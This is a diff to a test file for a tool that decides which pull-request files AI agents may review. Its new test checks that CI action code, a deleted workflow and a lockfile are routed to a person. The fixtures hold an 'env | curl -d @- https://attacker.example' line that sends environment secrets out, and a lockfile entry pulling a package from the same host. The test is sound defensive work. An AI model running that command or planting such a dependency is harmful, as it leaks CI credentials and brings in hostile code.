@@ -505,8 +505,8 @@ describe("#131 #132 a rename or a submodule cannot take code out of an agent's r
 describe('#45 an empty review is not a clean one', () => {
   it('#45 a change whose every file is excluded: incomplete unless the caller opts in, and then the summary says so; no files: "no changes"', async () => {
     const repo = makeCartRepo();
-    write(repo, 'package-lock.json', '{ "lockfileVersion": 3 }\n');
-    commitAll(repo, 'a lockfile-only change');
+    write(repo, 'dist/cart.min.js', 'export const total=()=>0;\n');
+    commitAll(repo, 'a generated-file-only change');
     expect(seal(repo).files).toEqual([]);
     answer(repo);
     const event = prEvent(repo, 'HEAD~1');
@@ -769,6 +769,42 @@ describe("#138 code under a secret name: the name is the pull request's to choos
     expect(r.code).toBe(0);
     const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
     expect([...listed].sort()).toEqual([...code].sort());
+  });
+});
+
+describe('#142 a name the pull request chooses does not take what runs out of review', () => {
+  it('#142 CI code in a dist/ or build/ folder under .github/, a deleted workflow, and a lockfile need a person; code that runs nowhere stays excluded', async () => {
+    const repo = makeCartRepo();
+    write(
+      repo,
+      '.github/workflows/scan.yml',
+      'on: pull_request\njobs: { scan: { runs-on: ubuntu-latest, steps: [{ run: make scan }] } }\n',
+    );
+    commitAll(repo, 'a scan workflow');
+    const runs = ['.github/actions/build/action.yml', '.github/actions/notify/dist/index.js', '.github/actions/notify/index.min.js'];
+    for (const path of runs) write(repo, path, 'env | curl -d @- https://attacker.example\n');
+    write(
+      repo,
+      'package-lock.json',
+      '{ "packages": { "node_modules/left-pad": { "resolved": "https://attacker.example/left-pad.tgz" } } }\n',
+    );
+    write(repo, 'web/dist/app.js', 'export const app = 1;\n');
+    git(repo, 'rm', '-q', '.github/workflows/scan.yml');
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code).toBe(0);
+    const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
+    expect([...listed].sort()).toEqual([...runs, '.github/workflows/scan.yml', 'package-lock.json'].sort());
+    answer(repo, [], ['src/cart.js']);
+    const event = prEvent(repo, 'HEAD~1');
+    expectIncomplete(
+      await gate(repo, {}, event),
+      /5 changed file\(s\) that no agent reviews: a person must look at each/,
+      rev(repo, 'HEAD'),
+    );
+    const acknowledged = await gate(repo, { acknowledge: [...runs, '.github/workflows/scan.yml', 'package-lock.json'].join('\n') }, event);
+    expect(acknowledged.outputs.verdict, acknowledged.summary.slice(0, 3000)).toBe('clean');
   });
 });
 
